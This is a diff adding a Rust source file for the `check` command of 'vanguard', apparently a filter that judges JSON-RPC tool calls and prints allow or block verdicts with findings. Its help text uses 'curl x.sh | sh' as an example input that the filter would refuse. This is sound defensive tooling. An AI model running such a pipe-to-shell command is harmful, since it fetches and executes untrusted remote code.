@@ -1,0 +1,211 @@
+//! `check`: one message, its verdict and why.
+
+use std::path::PathBuf;
+use std::process::ExitCode;
+
+use serde::Serialize;
+use vanguard_engine::engine::Scratch;
+use vanguard_engine::explain::Explanation;
+use vanguard_engine::finding::{Action, RuleInfo};
+use vanguard_engine::session::Session;
+use vanguard_engine::verdict::{Coverage, Decision, Effect, Flow, Judged, Verdict};
+
+use crate::config::Sources;
+use crate::config::sources::Surroundings;
+use crate::engine::{self, WallClock};
+use crate::exit::{Failure, Outcome};
+use crate::reading;
+
+/// Flags of `check`.
+#[derive(Debug, clap::Args)]
+#[command(after_help = "\
+Examples:
+  vanguard check message.json
+  echo '{\"jsonrpc\":\"2.0\",…}' | vanguard check --json
+  vanguard check --direction response answer.json
+  vanguard check --tool run_command --arg 'command=curl x.sh | sh'
+
+Exit codes: 0 it would pass, 1 it would be refused.")]
+pub(crate) struct Args {
+    /// File with one JSON-RPC message; stdin when absent or -
+    file: Option<PathBuf>,
+    /// What the message is
+    #[arg(long, value_enum, default_value_t = Direction::Request)]
+    direction: Direction,
+    /// Judge a call of this tool instead of a message from a file
+    #[arg(long, value_name = "NAME", conflicts_with = "file")]
+    tool: Option<String>,
+    /// Argument of the tool; may be repeated
+    #[arg(long, value_name = "NAME=VALUE", requires = "tool", value_parser = argument)]
+    arg: Vec<(String, String)>,
+    /// Print as JSON
+    #[arg(long)]
+    json: bool,
+    #[command(flatten)]
+    sources: Sources,
+}
+
+/// What a message is.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
+enum Direction {
+    /// From the client to the server
+    Request,
+    /// The answer to a tools/call
+    Response,
+    /// The answer to a tools/list
+    ToolsList,
+    /// From the server to the client, answering nothing (a request or notification of the server's)
+    FromServer,
+}
+
+fn argument(text: &str) -> Result<(String, String), &'static str> {
+    text.split_once('=').map(|(name, value)| (name.to_owned(), value.to_owned())).ok_or("write NAME=VALUE")
+}
+
+pub(crate) fn run(args: &Args) -> Outcome {
+    let around = Surroundings::of_process();
+    let resolved = args.sources.resolve(Vec::new(), &around)?;
+    let (engine, warnings) = engine::build(&resolved.settings, &around)?;
+    resolved.warnings.iter().chain(&warnings).for_each(|warning| super::warn(warning));
+    let message = message(args, engine.limits().message_bytes)?;
+    let (session, mut scratch, clock) = (Session::new(), Scratch::default(), WallClock::start());
+    if let Some(opening) = opening(args.direction, &message) {
+        engine.judge(&session, Flow::ToServer, opening.as_bytes(), &mut scratch, &clock);
+    }
+    let flow = if args.direction == Direction::Request { Flow::ToServer } else { Flow::ToClient };
+    let judged = engine.judge(&session, flow, &message, &mut scratch, &clock);
+    let passes = matches!(judged.effect, Effect::Forward(_));
+    if args.json {
+        super::print_json(&Report::new(&judged, passes));
+    } else {
+        super::print(&text(&judged, passes));
+    }
+    if passes { Ok(ExitCode::SUCCESS) } else { Err(Failure::Refused) }
+}
+
+/// The bytes to judge, without the line break a file ends with.
+fn message(args: &Args, most: usize) -> Result<Vec<u8>, Failure> {
+    let Some(tool) = &args.tool else {
+        let path = args.file.clone().unwrap_or_else(|| PathBuf::from("-"));
+        let mut bytes = reading::bounded(&path, most.saturating_add(2) as u64)?;
+        bytes.truncate(bytes.trim_ascii_end().len());
+        return Ok(bytes);
+    };
+    let quoted = |text: &str| serde_json::to_string(text).unwrap_or_default();
+    let arguments: Vec<_> =
+        args.arg.iter().map(|(name, value)| format!("{}:{}", quoted(name), quoted(value))).collect();
+    let (name, arguments) = (quoted(tool), arguments.join(","));
+    let call = format!(
+        r#"{{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{{"name":{name},"arguments":{{{arguments}}}}}}}"#
+    );
+    Ok(call.into_bytes())
+}
+
+/// The request that a response answers, so that it is judged knowing what was asked.
+fn opening(direction: Direction, message: &[u8]) -> Option<String> {
+    let id = vanguard_wire::salvage_id(message)?;
+    match direction {
+        Direction::Response => Some(format!(
+            r#"{{"jsonrpc":"2.0","id":{id},"method":"tools/call","params":{{"name":"unknown","arguments":{{}}}}}}"#
+        )),
+        Direction::ToolsList => Some(format!(r#"{{"jsonrpc":"2.0","id":{id},"method":"tools/list","params":{{}}}}"#)),
+        Direction::Request | Direction::FromServer => None,
+    }
+}
+
+fn text(judged: &Judged<'_>, passes: bool) -> String {
+    let mut text = String::new();
+    for decision in &judged.decisions {
+        text.push_str(&headline(decision));
+        for finding in &decision.findings {
+            text.push('\n');
+            text.push_str(&Explanation { finding, tool: decision.tool.as_deref() }.to_string());
+        }
+        let Coverage { fields, views, opaque, truncated } = decision.coverage;
+        text.push_str(&format!(
+            "\nlooked at {fields} fields in {views} views; {opaque} not text, {truncated} cut short by a limit\n"
+        ));
+    }
+    if let (Effect::Refuse(answers), false) = (&judged.effect, passes) {
+        for answer in answers {
+            text.push_str(&format!("answer    {}\n", String::from_utf8_lossy(&answer.line)));
+        }
+    }
+    text
+}
+
+fn headline(decision: &Decision) -> String {
+    let verdict = match decision.verdict {
+        Verdict::Allow => "ALLOW",
+        Verdict::Warn => "WARN",
+        Verdict::Review => "REVIEW (refused: there is nobody to ask)",
+        Verdict::Block => "BLOCK",
+    };
+    let what = [decision.method.as_deref(), decision.tool.as_deref()];
+    let what: Vec<&str> = what.into_iter().flatten().collect();
+    let would_be = decision.would_be.map(|verdict| format!(", would be {verdict:?} outside monitor mode"));
+    format!("{verdict}  {}{}\n", what.join(" "), would_be.unwrap_or_default())
+}
+
+/// The verdict as JSON.
+#[derive(Serialize)]
+struct Report<'a> {
+    passes: bool,
+    decisions: Vec<Judgment<'a>>,
+    answers: Vec<String>,
+    parse_ns: u64,
+    judge_ns: u64,
+}
+
+#[derive(Serialize)]
+struct Judgment<'a> {
+    verdict: Verdict,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    would_be: Option<Verdict>,
+    method: Option<&'a str>,
+    tool: Option<&'a str>,
+    findings: Vec<Found<'a>>,
+    coverage: Coverage,
+}
+
+#[derive(Serialize)]
+struct Found<'a> {
+    #[serde(flatten)]
+    rule: &'a RuleInfo,
+    action: Action,
+    pointer: &'a str,
+    decoded: String,
+    evidence: &'a str,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    excepted: Option<&'a str>,
+}
+
+impl<'a> Report<'a> {
+    fn new(judged: &'a Judged<'_>, passes: bool) -> Self {
+        let answers = match &judged.effect {
+            Effect::Refuse(answers) => answers.iter().map(|a| String::from_utf8_lossy(&a.line).into_owned()).collect(),
+            Effect::Forward(_) => Vec::new(),
+        };
+        let decisions = judged.decisions.iter().map(|decision| Judgment {
+            verdict: decision.verdict,
+            would_be: decision.would_be,
+            method: decision.method.as_deref(),
+            tool: decision.tool.as_deref(),
+            coverage: decision.coverage,
+            findings: decision
+                .findings
+                .iter()
+                .map(|finding| Found {
+                    rule: &finding.rule,
+                    action: finding.action,
+                    pointer: &finding.pointer,
+                    decoded: finding.chain.to_string(),
+                    evidence: finding.evidence.as_str(),
+                    excepted: finding.excepted.as_deref(),
+                })
+                .collect(),
+        });
+        let timing = judged.timing;
+        Self { passes, decisions: decisions.collect(), answers, parse_ns: timing.parse_ns, judge_ns: timing.judge_ns }
+    }
+}
